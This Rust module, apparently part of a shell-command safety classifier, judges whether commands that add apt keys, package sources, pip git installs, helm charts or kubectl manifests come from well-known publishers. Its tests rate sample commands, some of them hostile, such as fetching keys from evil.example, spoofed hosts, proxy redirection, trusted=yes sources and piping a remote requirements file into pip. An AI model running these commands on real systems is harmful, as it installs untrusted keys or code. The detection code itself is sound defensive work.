//! Well-known publishers of software, and what they tell people to add so that a package manager takes their packages: a
//! key, a source of packages, a chart, a manifest.
//!
//! Whoever adds one of these trusts a name that everybody knows. All of it is a closed list: of hosts, of accounts, of
//! the forms in which a key or a source is added. What is not in it is judged like anything else.

use super::call::Call;
use super::effect::Effect;
use super::known_publishers::{ACCOUNTS, CHARTS, CRATES, HOSTS, PLUGINS, SOURCES};
use super::machine::{Flow, Machine};
use super::record::COMMANDS;
use super::routine::is_of_routine;
use super::value::{self, Origin};
use super::{EffectKind, TargetClass, data, known};
use crate::specs::Role;

/// Detail of a key, a source or a manifest of theirs, added beside what is there.
pub(super) const OFFERED: &str = "publisher";

/// Detail of a package that is well known, taken in a way that nobody told people.
pub(super) const ODD: &str = "odd-options";

/// Folders of keys that are trusted for nothing until a list of sources names them.
const RINGS: &[&str] = &["/etc/apt/keyrings", "/usr/share/keyrings"];
/// Names with which the keys and lists of systems themselves begin: those are there already.
const SYSTEMS: &[&str] = &[
    "alpine",
    "archlinux",
    "debian",
    "deepin",
    "devuan",
    "fedora",
    "kali",
    "mint",
    "official",
    "parrot",
    "pop",
    "raspbian",
    "raspi",
    "system",
    "ubuntu",
];
/// What a system says of itself: its name, its version, its kind of machine. Sorted.
const OF_SYSTEM: &[&str] = &[
    "$(arch)",
    "$(dpkg)",
    "$(lsb_release)",
    "$(uname)",
    "$DEBIAN_CODENAME",
    "$ID",
    "$UBUNTU_CODENAME",
    "$VERSION_CODENAME",
    "$VERSION_ID",
];
/// Pages that are remembered.
const PAGES: usize = 8;

/// Host and path of a plain `https://HOST/PATH`: no user, no port, nothing that would have to be decoded.
fn parts(url: &str) -> Option<(&str, &str)> {
    let (host, path) = url.strip_prefix("https://")?.split_once('/')?;
    let plain = |letter: char| letter.is_ascii_alphanumeric() || "/._-+~=:@".contains(letter);
    let named = host
        .chars()
        .all(|letter| letter.is_ascii_lowercase() || letter.is_ascii_digit() || ".-".contains(letter));
    (named && path.chars().all(plain) && !path.split('/').any(|part| part == ".." || part == "."))
        .then_some((host, path))
}

/// True for an address of a publisher.
pub(super) fn is_publisher(url: &str) -> bool {
    parts(url).is_some_and(|(host, _)| data::holds(HOSTS, host))
}

/// True for sources that a project, or a forge, sends under their version.
pub(super) fn is_release_of_sources(url: &str) -> bool {
    let Some((host, path)) = url.strip_prefix("https://").and_then(|rest| rest.split_once('/')) else {
        return false;
    };
    let of_forge = || {
        known::is_forge(host)
            && ["/archive/", "/-/archive/", "/releases/download/"].iter().any(|part| path.contains(part))
            || host == "codeload.github.com"
    };
    data::holds(SOURCES, host) || of_forge()
}

/// True for the library of Deno itself, in a version of it.
pub(super) fn is_of_deno(url: &str) -> bool {
    parts(url).is_some_and(|(host, path)| host == "deno.land" && path.starts_with("std@"))
}

/// True for a plugin of one of those.
pub(super) fn is_plugin(url: &str) -> bool {
    let owner =
        parts(url).filter(|(host, _)| *host == "github.com").and_then(|(_, path)| path.split('/').next());
    owner.is_some_and(|owner| data::holds(PLUGINS, &owner.to_ascii_lowercase()))
}

fn is_account(owner: &str) -> bool {
    data::holds(ACCOUNTS, &owner.to_ascii_lowercase())
}

/// The address alone of `NAME @ ADDRESS` and `NAME[EXTRA]@ADDRESS`, as package managers of Python take it.
pub(super) fn address_of(text: &str) -> &str {
    let schemes = ["git+", "hg+", "svn+", "bzr+", "https://", "http://", "file:"];
    let named = text.split_once('@').map(|(name, rest)| (name.trim_end(), rest.trim_start()));
    match named {
        Some((name, rest))
            if !name.contains(['/', ':']) && schemes.iter().any(|scheme| rest.starts_with(scheme)) =>
        {
            rest
        }
        _ => text,
    }
}

/// True where such a manager takes an address for another system than git.
pub(super) fn is_of_other_system(address: &str) -> bool {
    ["hg+", "svn+", "bzr+"].iter().any(|start| address.starts_with(start))
}

/// True for `git+https://github.com/ACCOUNT/NAME[.git][@VERSION]` of a publisher, or the same without `git+`.
pub(super) fn is_repository(text: &str) -> bool {
    repository_of(text).is_some_and(is_account)
}

/// True for `github.com/ACCOUNT/NAME/releases/download/…` of a publisher, without what stands before it.
pub(super) fn is_download(address: &str) -> bool {
    let mut parts = address.trim_end_matches(')').split('/');
    // `..` would lead to somebody else.
    let plain = |part: &str| !part.is_empty() && !value::has_hole(address) && !address.contains("..");
    matches!(
        (parts.next(), parts.next(), parts.next(), parts.next(), parts.next(), parts.next()),
        (Some("github.com"), Some(owner), Some(name), Some("releases"), Some("download" | "latest"), Some(_))
            if is_account(owner) && plain(name)
    )
}

/// True for a plugin of a shell, `OWNER/NAME`, of somebody whose plugins everybody has, or of a publisher.
pub(super) fn is_shell_plugin(text: &str) -> bool {
    let Some((owner, name)) = text.split_once('/') else { return false };
    let (name, version) = name.split_once('@').unwrap_or((name, "main"));
    let plain =
        |text: &str| !text.is_empty() && text.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c));
    plain(name) && plain(version) && (is_account(owner) || data::holds(PLUGINS, &owner.to_ascii_lowercase()))
}

/// True for a repository of somebody whose programs in Rust everybody knows, or of a publisher.
pub(super) fn is_crate(text: &str) -> bool {
    repository_of(text)
        .is_some_and(|owner| is_account(owner) || data::holds(CRATES, &owner.to_ascii_lowercase()))
}

/// The account that such an address names.
fn repository_of(text: &str) -> Option<&str> {
    let text = address_of(text);
    let url = text.strip_prefix("git+").unwrap_or(text);
    let url = url.split_once("#egg=").map_or(url, |(url, name)| if is_word(name) { url } else { "" });
    let (url, version) = url.rsplit_once('@').unwrap_or((url, "main"));
    let versioned = !version.is_empty()
        && version.chars().all(|letter| letter.is_ascii_alphanumeric() || "._-".contains(letter));
    let (host, path) = parts(url)?;
    let mut words = path.split('/');
    let owner = words.next().unwrap_or_default();
    let name = words.next().unwrap_or_default();
    (versioned && host == "github.com" && words.next().is_none() && !name.is_empty()).then_some(owner)
}

/// True for a manifest that belongs to a release of a publisher, under its version.
fn is_release(url: &str) -> bool {
    let Some(("github.com", path)) = parts(url) else { return false };
    let words: Vec<&str> = path.split('/').collect();
    let [owner, _, "releases", "download", version, name] = words[..] else { return false };
    let numbered =
        version.strip_prefix('v').is_some_and(|rest| rest.starts_with(|digit: char| digit.is_ascii_digit()));
    is_account(owner) && numbered && (name.ends_with(".yaml") || name.ends_with(".yml"))
}

fn is_word(text: &str) -> bool {
    !text.is_empty() && text.chars().all(|letter| letter.is_ascii_alphanumeric() || "_-.".contains(letter))
}

/// A name of one's own for a file: none of a system's.
fn is_own_name(name: &str, ending: &[&str]) -> bool {
    is_word(name)
        && !name.starts_with('.')
        && !SYSTEMS.iter().any(|system| name.starts_with(system))
        && ending.iter().any(|end| name.len() > end.len() && name.ends_with(end))
}

/// True for a key in one of [`RINGS`].
fn is_ring(path: &str) -> bool {
    RINGS.iter().any(|folder| {
        path.strip_prefix(folder)
            .and_then(|rest| rest.strip_prefix('/'))
            .is_some_and(|name| is_own_name(name, &[".asc", ".gpg"]))
    })
}

/// True for the keys that a system itself came with: whose packages it takes hangs on them.
pub(super) fn is_systems_ring(path: &str) -> bool {
    RINGS.iter().any(|folder| {
        path.strip_prefix(folder)
            .and_then(|rest| rest.strip_prefix('/'))
            .is_some_and(|name| SYSTEMS.iter().any(|system| name.starts_with(system)))
    })
}

/// True for a list of sources of its own.
fn is_source_list(path: &str) -> bool {
    path.strip_prefix("/etc/apt/sources.list.d/").is_some_and(|name| is_own_name(name, &[".list"]))
}

/// True where a key is made one that everybody may read, and only root may change.
pub(super) fn lets_read(path: &str, mode: &str) -> bool {
    is_ring(path) && matches!(mode, "a+r" | "go+r" | "+r" | "644" | "0644" | "u=rw,go=r")
}

/// The only values of these options are among those.
fn all_values(call: &Call<'_>, flag: &str, allowed: &[&str]) -> bool {
    call.args.values(flag).all(|item| allowed.contains(&item.text))
}

impl Machine<'_> {
    /// Remembers whether a page that was just fetched is a publisher's, as it stands there.
    pub(super) fn vouch(&mut self, call: &Call<'_>, page: char) {
        let plain = match call.program {
            "curl" => call.has_only(&["-f", "-s", "-S", "-L", "-o", "-O", "--proto", "--tlsv1.2"]),
            "wget" => call.has_only(&["-q", "-nv", "-O"]),
            _ => return,
        };
        let mut operands = call.args.operands();
        let alone = match (operands.next(), operands.next()) {
            (Some(item), None) => is_publisher(item.text),
            _ => false,
        };
        // The page goes by its address: where that is not what is remembered of it, it may be another one.
        let by_name = self.unknowns.name_of(&page.to_string()).is_some_and(|name| {
            let shown = name.split_once(' ').map_or("", |(_, url)| url.trim_end_matches(')'));
            shown.len() > 8 && call.args.operands().next().is_some_and(|item| item.text.starts_with(shown))
        });
        let good = plain && alone && by_name && self.fetches_plainly(call);
        self.keep_page(page, good);
    }

    fn keep_page(&mut self, page: char, good: bool) {
        let room = self.vouched.len() < PAGES;
        match self.vouched.iter_mut().find(|(known, _)| *known == page) {
            Some((_, known)) => *known &= good,
            None if room => self.vouched.push((page, good)),
            None => {}
        }
    }

    /// True where nothing that the line has set leads a program that fetches elsewhere.
    fn fetches_plainly(&self, call: &Call<'_>) -> bool {
        const VARIABLES: &[&str] = &[
            "ALL_PROXY",
            "CURL_CA_BUNDLE",
            "CURL_HOME",
            "HTTPS_PROXY",
            "LD_LIBRARY_PATH",
            "LD_PRELOAD",
            "SSL_CERT_DIR",
            "SSL_CERT_FILE",
            "WGETRC",
            "all_proxy",
            "https_proxy",
        ];
        let program = call.argv.first().map_or("", |field| field.text.as_str());
        let known =
            !program.contains('/') || program.starts_with("/usr/bin/") || program.starts_with("/bin/");
        let set_here =
            self.files.iter().any(|(path, _)| path.ends_with("curlrc") || path.ends_with("wgetrc"));
        known && !set_here && VARIABLES.iter().all(|name| self.state.variable(name).is_none())
    }

    /// `gpg --dearmor` writes the same key in another form.
    pub(super) fn vouch_again(&mut self, call: &Call<'_>, flow: Flow<'_>, output: &str) {
        let output = output.trim_end();
        let mut letters = output.chars();
        if call.program == "gpg"
            && let (Some(hole), None) = (letters.next(), letters.next())
            && value::is_hole(hole)
        {
            let good = self.dearmors(call, flow);
            self.keep_page(hole, good);
        }
    }

    fn dearmors(&self, call: &Call<'_>, flow: Flow<'_>) -> bool {
        call.args.has("--dearmor")
            && call.has_only(&["--dearmor", "-o", "--yes", "--batch", "--no-tty"])
            && call.args.operands().next().is_none()
            && flow.input.is_some_and(|text| self.is_vouched(text))
    }

    fn is_vouched(&self, text: &str) -> bool {
        let text = text.trim_end();
        // What comes through another program may have become something else on the way.
        let before = self.commands.len().checked_sub(2).and_then(|at| self.commands.get(at));
        let direct = self.commands.len() < COMMANDS
            && before
                .and_then(|command| command.argv.first()?.as_deref())
                .is_some_and(|program| matches!(program.rsplit('/').next(), Some("curl" | "gpg" | "wget")));
        direct && self.vouched.iter().any(|(page, good)| *good && text.chars().eq([*page]))
    }

    /// Notes which of the effects that a program has just had are what a publisher offers.
    pub(super) fn offered(&mut self, call: &Call<'_>, flow: Flow<'_>, before: usize) {
        if self.effects.len() <= before {
            return;
        }
        let kind = match call.program {
            "curl" | "wget" => EffectKind::Overwrite,
            "tee" => EffectKind::Overwrite,
            "gpg" => EffectKind::Create,
            "mkdir" => EffectKind::Create,
            "install" => EffectKind::Overwrite,
            "dnf" | "helm" | "kubectl" | "yum-config-manager" => EffectKind::Configure,
            "dpkg" | "tcpdump" | "ufw" | "useradd" | "usermod" if self.is_routine(call) => {
                let own = self.effects.iter_mut().skip(before).filter(|effect| is_of_routine(effect));
                own.for_each(|effect| OFFERED.clone_into(&mut effect.detail));
                return;
            }
            _ => return,
        };
        let fits: Box<dyn Fn(&Effect) -> bool> = match call.program {
            "curl" | "wget" => {
                let url = call.args.operands().next().map_or("", |item| item.text).to_owned();
                let mut alone = call.args.operands();
                let plain = (alone.next().is_some(), alone.next().is_none()) == (true, true)
                    && match call.program {
                        "curl" => call.has_only(&["-f", "-s", "-S", "-L", "-o", "--proto", "--tlsv1.2"]),
                        _ => call.has_only(&["-q", "-nv", "-O"]),
                    };
                let plain = plain && is_publisher(&url) && self.fetches_plainly(call);
                Box::new(move |effect| plain && is_ring(&effect.target.text))
            }
            "gpg" => {
                let good = self.dearmors(call, flow);
                Box::new(move |effect| good && is_ring(&effect.target.text))
            }
            "tee" => {
                let alone = call.args.items.iter().all(|item| matches!(item.role, Role::Operand(_)));
                let key = alone && flow.input.is_some_and(|text| self.is_vouched(text));
                let source = alone && flow.input.is_some_and(|text| self.is_source(text));
                Box::new(move |effect| {
                    key && is_ring(&effect.target.text) || source && is_source_list(&effect.target.text)
                })
            }
            "mkdir" | "install" => {
                let plain = match call.program {
                    "mkdir" => call.has_only(&["-p", "-m"]),
                    _ => call.args.has("-d") && call.has_only(&["-d", "-m"]),
                };
                let plain = plain && all_values(call, "-m", &["755", "0755"]);
                Box::new(move |effect| plain && RINGS.contains(&effect.target.text.trim_end_matches('/')))
            }
            _ => {
                let good = match call.program {
                    "helm" => is_new_chart(call) && !self.on_another_cluster(),
                    "kubectl" => is_applied_release(call) && !self.on_another_cluster(),
                    _ => is_added_source(call),
                };
                Box::new(move |_| good)
            }
        };
        for effect in self.effects.iter_mut().skip(before) {
            let usual = effect.detail.is_empty() || kind == EffectKind::Configure;
            if effect.kind == kind && usual && effect.program == call.program && fits(effect) {
                OFFERED.clone_into(&mut effect.detail);
            }
        }
    }

    /// What is well known is so only as it stands there: an option may take it, or what it needs, from elsewhere.
    pub(super) fn odd_options(&mut self, call: &Call<'_>, flow: Flow<'_>, before: usize) {
        const FLAGS: &[&str] = &["-U", "-q", "--user", "--no-cache-dir", "--no-deps", "-v", "-e", "-r"];
        if call.program != "pip" || call.args.spec.name != "install" {
            return;
        }
        if !call.has_only(FLAGS) {
            let installs = |effect: &&mut Effect| {
                effect.kind == EffectKind::Install
                    && effect.detail == "install"
                    && is_repository(&effect.target.text)
            };
            for effect in self.effects.iter_mut().skip(before).filter(installs) {
                ODD.clone_into(&mut effect.detail);
            }
        }
        let piped = call.args.values("-r").find(|item| matches!(item.text, "/dev/stdin" | "-" | "/dev/fd/0"));
        if let (Some(item), Some(input)) = (piped, flow.input)
            && self.unknowns.origin(input).is_some_and(|origin| origin >= Origin::Network)
        {
            let span = self.at(call.argv[item.word + 1].span);
            let target = self.target(TargetClass::Named, &self.unknowns.show(input.trim_end()), span);
            self.emit_with(EffectKind::Install, target, false, "pip", span, "unchecked");
        }
    }

    /// True for one line `deb [signed-by=RING] https://PUBLISHER/… SUITE …`.
    fn is_source(&self, text: &str) -> bool {
        let text = text.trim_end_matches('\n');
        let Some(rest) = text.strip_prefix("deb ").filter(|rest| !rest.contains('\n')) else { return false };
        let Some((options, rest)) = rest.trim_start().strip_prefix('[').and_then(|rest| rest.split_once(']'))
        else {
            return false;
        };
        let mut words = rest.split_ascii_whitespace();
        let Some(url) = words.next() else { return false };
        // What the machine says of its own system may stand in it, what a network, a file or a variable of anybody's says may
        // not: it names the folder that packages come from.
        let tame = |text: &str| {
            text.chars().filter(|letter| value::is_hole(*letter)).all(|hole| {
                let shown = self.unknowns.show(hole.encode_utf8(&mut [0; 4]));
                data::holds(OF_SYSTEM, &shown)
                    && self
                        .unknowns
                        .origin(hole.encode_utf8(&mut [0; 4]))
                        .is_none_or(|origin| origin < Origin::Secret)
            })
        };
        let signed = options
            .split_ascii_whitespace()
            .filter_map(|option| option.strip_prefix("signed-by="))
            .collect::<Vec<_>>();
        let known = options.split_ascii_whitespace().all(|option| match option.split_once('=') {
            Some(("signed-by", ring)) => is_ring(ring),
            Some(("arch", kinds)) => kinds
                .chars()
                .all(|letter| letter.is_ascii_alphanumeric() || letter == ',' || value::is_hole(letter)),
            _ => false,
        });
        let plain = |word: &str| {
            word.chars().all(|letter| {
                letter.is_ascii_alphanumeric() || "._-/".contains(letter) || value::is_hole(letter)
            })
        };
        let host = url.strip_suffix('/').map_or_else(|| format!("{url}/"), str::to_owned);
        signed.len() == 1 && known && tame(text) && is_publisher(&host) && words.all(plain)
    }
}

/// `dnf config-manager --add-repo https://PUBLISHER/x.repo`
fn is_added_source(call: &Call<'_>) -> bool {
    let mut added = call.args.values("--add-repo").peekable();
    let is_list = |url: &str| is_publisher(url) && url.ends_with(".repo");
    added.peek().is_some()
        && call.has_only(&["--add-repo", "-y"])
        && call.args.operands().next().is_none()
        && added.all(|item| is_list(item.text))
}

/// `helm upgrade --install NAME CHART --repo https://HOST` with nothing set.
fn is_new_chart(call: &Call<'_>) -> bool {
    let repositories: Vec<&str> = call.args.values("--repo").map(|item| item.text).collect();
    let [url] = repositories[..] else { return false };
    let host = url.strip_suffix('/').map_or_else(|| format!("{url}/"), str::to_owned);
    let chart = call.args.operands().nth(1).is_some_and(|item| is_word(item.text));
    call.args.spec.name == "upgrade"
        && chart
        && call.args.has("-i")
        && call.has_only(&[
            "-i",
            "--repo",
            "-n",
            "--create-namespace",
            "--version",
            "--wait",
            "--timeout",
            "--atomic",
        ])
        && parts(&host).is_some_and(|(host, _)| data::holds(CHARTS, host))
}

/// `kubectl apply -f https://github.com/ACCOUNT/NAME/releases/download/v1/x.yaml`
fn is_applied_release(call: &Call<'_>) -> bool {
    let mut files = call.args.values("-f").peekable();
    call.args.spec.name == "apply"
        && files.peek().is_some()
        && call.has_only(&["-f", "-n", "--server-side", "--wait"])
        && call.args.operands().next().is_none()
        && files.all(|item| is_release(item.text))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::safety::Risk::{High, Moderate, Safe};
    use crate::safety::tests::{check_all, context};

    #[test]
    fn the_table_is_sorted() {
        for pair in SYSTEMS.windows(2).chain(OF_SYSTEM.windows(2)) {
            assert!(pair[0] < pair[1], "{pair:?}");
        }
    }

    #[test]
    fn keys_of_publishers() {
        check_all(
            &context(),
            &[
                (Safe, "sudo install -m 0755 -d /etc/apt/keyrings"),
                (Safe, "sudo mkdir -p -m 755 /etc/apt/keyrings"),
                (Moderate, "sudo install -m 0777 -d /etc/apt/keyrings"),
                (High, "sudo install -m 0755 -d /etc/apt/trusted.gpg.d"),
                (
                    Safe,
                    "sudo curl -fsSL https://download.docker.com/linux/ubuntu/gpg -o /etc/apt/keyrings/docker.asc",
                ),
                (
                    Moderate,
                    "sudo curl -kfsSL https://download.docker.com/linux/ubuntu/gpg -o /etc/apt/keyrings/docker.asc",
                ),
                (Moderate, "sudo curl -fsSL https://evil.example/gpg -o /etc/apt/keyrings/docker.asc"),
                (
                    Moderate,
                    "sudo curl -fsSL https://download.docker.com@evil.example/gpg -o /etc/apt/keyrings/docker.asc",
                ),
                (
                    Moderate,
                    "sudo curl -fsSL https://download.docker.com/a https://evil.example/gpg -o /etc/apt/keyrings/docker.asc",
                ),
                (
                    Moderate,
                    "export https_proxy=http://evil.example; sudo curl -fsSL https://download.docker.com/linux/ubuntu/gpg -o /etc/apt/keyrings/docker.asc",
                ),
                (
                    High,
                    "sudo curl -fsSL https://download.docker.com/linux/ubuntu/gpg -o /usr/share/keyrings/ubuntu-archive-keyring.gpg",
                ),
                (
                    Safe,
                    "wget -qO- https://packages.microsoft.com/keys/microsoft.asc | gpg --dearmor | sudo tee /usr/share/keyrings/microsoft.gpg > /dev/null",
                ),
                (
                    Safe,
                    "curl -fsSL https://pkgs.k8s.io/core:/stable:/v1.30/deb/Release.key | sudo gpg --dearmor -o /etc/apt/keyrings/kubernetes-apt-keyring.gpg",
                ),
                (
                    Moderate,
                    "curl -fsSL https://evil.example/gpg | sudo gpg --dearmor -o /etc/apt/keyrings/docker.gpg",
                ),
                (
                    Moderate,
                    "curl -fsSL https://download.docker.com/gpg | sed s/a/b/ | sudo tee /etc/apt/keyrings/docker.gpg",
                ),
                (
                    Moderate,
                    "curl -fsSL https://download.docker.com/gpg | cat - evil.gpg | sudo tee /etc/apt/keyrings/docker.gpg",
                ),
                (
                    Moderate,
                    "curl -fsSL https://download.docker.com/gpg | sudo gpg --dearmor -o /etc/apt/keyrings/docker.gpg --keyring x",
                ),
                (Moderate, "sudo cp evil.gpg /usr/share/keyrings/githubcli-archive-keyring.gpg"),
                (High, "sudo cp evil.gpg /usr/share/keyrings/debian-archive-keyring.gpg"),
                (Safe, "sudo chmod a+r /etc/apt/keyrings/docker.asc"),
                (High, "sudo chmod a+rw /etc/apt/keyrings/docker.asc"),
            ],
        );
    }

    #[test]
    fn sources_of_publishers() {
        let tee = "sudo tee /etc/apt/sources.list.d/docker.list > /dev/null";
        let ring = "signed-by=/etc/apt/keyrings/docker.asc";
        let of = |risk, line: String| check_all(&context(), &[(risk, line.as_str())]);
        of(
            Safe,
            format!(
                "echo \"deb [arch=$(dpkg --print-architecture) {ring}] https://download.docker.com/linux/ubuntu $(lsb_release -cs) stable\" | {tee}"
            ),
        );
        of(
            Safe,
            format!(
                "echo \"deb [{ring}] https://download.docker.com/linux/ubuntu $(. /etc/os-release && echo \"$VERSION_CODENAME\") stable\" | {tee}"
            ),
        );
        for word in ["$(cat suite)", "$X", "$(hostname)"] {
            of(
                Moderate,
                format!(
                    "echo \"deb [{ring}] https://download.docker.com/linux/ubuntu {word} stable\" | {tee}"
                ),
            );
        }
        of(Safe, format!("echo 'deb [{ring}] https://cli.github.com/packages stable main' | {tee}"));
        of(Moderate, format!("echo 'deb [{ring}] https://evil.example/packages stable main' | {tee}"));
        of(
            High,
            format!("echo 'deb [trusted=yes {ring}] https://cli.github.com/packages stable main' | {tee}"),
        );
        of(Moderate, format!("echo 'deb https://cli.github.com/packages stable main' | {tee}"));
        of(
            Moderate,
            format!(
                "printf 'deb [{ring}] https://cli.github.com/packages stable main\\ndeb [{ring}] https://evil.example/ x y\\n' | {tee}"
            ),
        );
        of(
            Moderate,
            format!(
                "echo 'deb [{ring}] https://cli.github.com/packages stable main' | sudo tee /etc/apt/sources.list"
            ),
        );
        check_all(
            &context(),
            &[
                (
                    Safe,
                    "sudo dnf config-manager --add-repo https://rpm.releases.hashicorp.com/fedora/hashicorp.repo",
                ),
                (
                    Safe,
                    "sudo yum-config-manager --add-repo https://download.docker.com/linux/centos/docker-ce.repo",
                ),
                (Moderate, "sudo dnf config-manager --add-repo https://evil.example/x.repo"),
                (
                    Moderate,
                    "sudo dnf config-manager --add-repo http://download.docker.com/linux/fedora/docker-ce.repo",
                ),
                (
                    Moderate,
                    "sudo dnf config-manager --setopt=gpgcheck=0 --add-repo https://download.docker.com/x.repo",
                ),
            ],
        );
    }

    #[test]
    fn what_they_develop() {
        check_all(
            &context(),
            &[
                (Safe, "pip install --upgrade git+https://github.com/huggingface/transformers.git"),
                (Safe, "pip install git+https://github.com/huggingface/transformers@v4.40.0"),
                (Moderate, "pip install git+https://github.com/someone/transformers"),
                (Moderate, "pip install git+https://x@github.com/huggingface/transformers"),
                (High, "pip install git+http://github.com/huggingface/transformers"),
                (Safe, "pip install 'transformers @ git+https://github.com/huggingface/transformers'"),
                (Moderate, "pip install 'x @ git+https://github.com/someone/x'"),
                (Moderate, "python3 -m pip install git+https://github.com/someone/x"),
                (Moderate, "uv pip install 'x @ git+https://github.com/someone/x'"),
                (Safe, "python3.12 -m pip install -U pip"),
                (Safe, "uv pip install -r requirements.txt"),
                (Moderate, "pip install 'x @ https://e.example/x.whl'"),
                (Moderate, "pip install x@https://e.example/x.whl"),
                (Moderate, "pip install 'x[all]@https://e.example/x.whl'"),
                (Moderate, "pip install hg+https://e.example/x"),
                (Moderate, "pip install svn+https://e.example/x"),
                (Moderate, "pip install bzr+https://e.example/x"),
                (High, "pip install 'x @ http://e.example/x.whl'"),
                (Safe, "pip install 'x==1.0' x[all]"),
                (Safe, "pip install -U -q --no-cache-dir git+https://github.com/huggingface/transformers"),
                (
                    Moderate,
                    "pip install --index-url https://e.example git+https://github.com/huggingface/transformers",
                ),
                (Moderate, "pip install -t /x git+https://github.com/huggingface/transformers"),
                (Moderate, "pip install -e git+https://github.com/someone/x"),
                (Safe, "pip install -e ."),
                (High, "curl https://e.example/r.txt | pip install -r /dev/stdin"),
                (Safe, "cat requirements.txt | pip install -r /dev/stdin"),
                (Safe, "cargo install --git https://github.com/astral-sh/uv uv"),
                (Moderate, "cargo install --git https://github.com/someone/uv uv"),
                (
                    Safe,
                    "kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.15.1/cert-manager.yaml",
                ),
                (
                    Moderate,
                    "kubectl apply -f https://github.com/someone/cert-manager/releases/download/v1.15.1/cert-manager.yaml",
                ),
                (
                    Moderate,
                    "kubectl --context prod apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.15.1/cert-manager.yaml",
                ),
                (
                    Safe,
                    "helm upgrade --install ingress-nginx ingress-nginx --repo https://kubernetes.github.io/ingress-nginx -n ingress-nginx --create-namespace",
                ),
                (Moderate, "helm upgrade --install x x --repo https://evil.example/charts"),
                (
                    Moderate,
                    "kubectl config use-context prod && kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.15.1/cert-manager.yaml",
                ),
                (
                    Moderate,
                    "export KUBECONFIG=/tmp/x; kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.15.1/cert-manager.yaml",
                ),
                (
                    Moderate,
                    "kubectx prod; helm upgrade --install ingress-nginx ingress-nginx --repo https://kubernetes.github.io/ingress-nginx",
                ),
                (Safe, "kubectl config use-context prod && kubectl get pods"),
                (
                    Moderate,
                    "helm upgrade --install x https://evil.example/x.tgz --repo https://kubernetes.github.io/x",
                ),
                (Moderate, "helm upgrade --install x ./x --repo https://kubernetes.github.io/x"),
                (Moderate, "helm upgrade x x --repo https://kubernetes.github.io/ingress-nginx"),
                (
                    High,
                    "helm upgrade --install x x --repo https://kubernetes.github.io/ingress-nginx --set controller.privileged=true",
                ),
            ],
        );
    }
}
